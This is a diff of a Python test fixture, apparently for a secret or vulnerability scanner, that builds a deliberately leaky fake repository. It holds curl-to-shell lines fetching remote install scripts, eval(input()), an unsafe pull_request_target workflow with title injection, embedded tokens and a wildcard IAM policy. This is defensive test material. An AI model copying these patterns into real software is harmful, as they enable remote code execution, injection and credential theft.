@@ -76,44 +76,43 @@ def _pickle_calling_system() -> bytes:
 def leaky_text_files() -> dict[str, str]:
     """The text files of the leaky repository (the action's checkout fixture takes text)."""
     return {
-            "src/fetch.py": (
-                "import subprocess\nimport torch\n\n"
-                f"subprocess.run(f\"curl -H 'Authorization: token {GITHUB}' {{url}}\", shell=True)\n"
-                f"model = torch.load(path)  # key {HUGGINGFACE}\n"
-                f"eval(input())  # password = \"{PASSWORD}\"\n"
-            ),
-            ".github/workflows/ci.yml": (
-                "name: ci\non: [pull_request_target]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
-                "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
-                f"      - run: curl -H 'token {HUGGINGFACE}' https://x.invalid/install.sh | bash\n"
-                f"      - run: echo \"${{{{ github.event.pull_request.title }}}}\" {GITLAB}\n"
-            ),
-            "deploy/nginx.conf": (
-                "server {\n  listen 80;\n  location / {\n"
-                f"    proxy_set_header Authorization 'Bearer {BEARER}';\n"
-                "    proxy_pass http://mlflow:5000;\n  }\n}\n"
-            ),
-            "pyproject.toml": (
-                f'[project]\nname = "demo"\nversion = "1"\ndependencies = ["torch ==2.0 {ANTHROPIC}", "requests"]\n'
-            ),
-            "setup.cfg": f"[options]\ninstall_requires =\n    numpy >=1.0 ;;; {OPENAI}\n",
-            "iam/policy.json": json.dumps(
-                {
-                    "Version": "2012-10-17",
-                    "Statement": [{"Sid": f"Allow{AWS}", "Effect": "Allow", "Action": "*", "Resource": "*"}],
-                },
-                indent=2,
-            ),
-            "k8s/deploy.yaml": (
-                "apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n"
-                f"  template: *{GITHUB}\n"
-            ),
-            f"tokens/{GITHUB}/settings.py": f"DB_PASSWORD = \"{PASSWORD}\"\n",
-            "Dockerfile": (
-                "FROM python:3.11\n"
-                f"RUN curl -fsSL -H 'Authorization: token {GITHUB}' https://x.invalid/get.sh | sh\n"
-                f"ENV HF_TOKEN={HUGGINGFACE}\n"
-            ),
+        "src/fetch.py": (
+            "import subprocess\nimport torch\n\n"
+            f"subprocess.run(f\"curl -H 'Authorization: token {GITHUB}' {{url}}\", shell=True)\n"
+            f"model = torch.load(path)  # key {HUGGINGFACE}\n"
+            f'eval(input())  # password = "{PASSWORD}"\n'
+        ),
+        ".github/workflows/ci.yml": (
+            "name: ci\non: [pull_request_target]\njobs:\n  build:\n    runs-on: ubuntu-latest\n    steps:\n"
+            "      - uses: actions/checkout@v4\n        with:\n          ref: ${{ github.event.pull_request.head.sha }}\n"
+            f"      - run: curl -H 'token {HUGGINGFACE}' https://x.invalid/install.sh | bash\n"
+            f'      - run: echo "${{{{ github.event.pull_request.title }}}}" {GITLAB}\n'
+        ),
+        "deploy/nginx.conf": (
+            "server {\n  listen 80;\n  location / {\n"
+            f"    proxy_set_header Authorization 'Bearer {BEARER}';\n"
+            "    proxy_pass http://mlflow:5000;\n  }\n}\n"
+        ),
+        "pyproject.toml": (
+            f'[project]\nname = "demo"\nversion = "1"\ndependencies = ["torch ==2.0 {ANTHROPIC}", "requests"]\n'
+        ),
+        "setup.cfg": f"[options]\ninstall_requires =\n    numpy >=1.0 ;;; {OPENAI}\n",
+        "iam/policy.json": json.dumps(
+            {
+                "Version": "2012-10-17",
+                "Statement": [{"Sid": f"Allow{AWS}", "Effect": "Allow", "Action": "*", "Resource": "*"}],
+            },
+            indent=2,
+        ),
+        "k8s/deploy.yaml": (
+            f"apiVersion: apps/v1\nkind: Deployment\nmetadata:\n  name: x\nspec:\n  template: *{GITHUB}\n"
+        ),
+        f"tokens/{GITHUB}/settings.py": f'DB_PASSWORD = "{PASSWORD}"\n',
+        "Dockerfile": (
+            "FROM python:3.11\n"
+            f"RUN curl -fsSL -H 'Authorization: token {GITHUB}' https://x.invalid/get.sh | sh\n"
+            f"ENV HF_TOKEN={HUGGINGFACE}\n"
+        ),
     }
 
 
